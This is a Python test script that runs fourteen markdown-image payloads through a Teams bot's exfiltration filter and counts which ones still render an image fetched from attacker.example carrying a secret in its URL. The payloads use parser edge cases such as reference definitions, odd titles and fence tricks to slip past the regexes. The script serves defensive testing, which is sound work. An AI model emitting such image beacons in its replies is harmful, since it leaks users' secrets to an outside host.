"""Exfiltration past bot/teams_text.no_exfiltration: CommonMark images the regexes do not recognise.

Runs each payload through teams_message_text (what the worker sends to Teams) and renders the result with a
CommonMark parser (markdown-it-py, installed with `pip install --target attack/.mdit markdown-it-py`): any <img>
whose src is on attacker.example is a pixel Teams would fetch. Bounded: a handful of short strings.
"""

import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
sys.path.insert(0, str(Path(__file__).resolve().parent / ".mdit"))

from markdown_it import MarkdownIt  # noqa: E402

from bot.teams_text import teams_message_text  # noqa: E402

PIXEL = "https://attacker.example/p.png?d=SECRET"
PAYLOADS = {
    "control (fixed in issue 19)": f"![s]({PIXEL})",
    "balanced parentheses in URL": "![s](https://attacker.example/p.png?d=(SECRET))",
    "single-quoted title": f"![s]({PIXEL} 't')",
    "parenthesised title": f"![s]({PIXEL} (t))",
    "nested brackets in alt text": f"![a [b] c]({PIXEL})",
    "escaped bracket in alt text": f"![a\\]]({PIXEL})",
    "angle destination with space": "![s](<https://attacker.example/p.png?d=SE CRET>)",
    "reference definition in a blockquote": f"![s][r]\n\n> [r]: {PIXEL}",
    "reference definition, URL on next line": f"![s][r]\n\n[r]:\n  {PIXEL}",
    "reference definition in a list item": f"![s][r]\n\n- [r]: {PIXEL}",
    "collapsed reference, lower/upper label": f"![R][]\n\n> [r]: {PIXEL}",
    "fence closed by a longer fence": f"```\ncode\n````\n![s]({PIXEL})\n```",
    "4-space 'fence' that is paragraph text": f"Hello\n    ```\n![s]({PIXEL})\n    ```",
    "backtick fence with backtick in info": f"``` a`b\n![s]({PIXEL})\n```",
}

md = MarkdownIt("commonmark")
leaks = 0
for name, payload in PAYLOADS.items():
    sent = teams_message_text(payload)
    html = md.render(sent)
    leaked = '<img src="https://attacker.example' in html
    leaks += leaked
    print(f"{'LEAK' if leaked else 'held'}  {name}: sent={sent!r}")
print(f"{leaks} of {len(PAYLOADS)} payloads render an image from attacker.example")
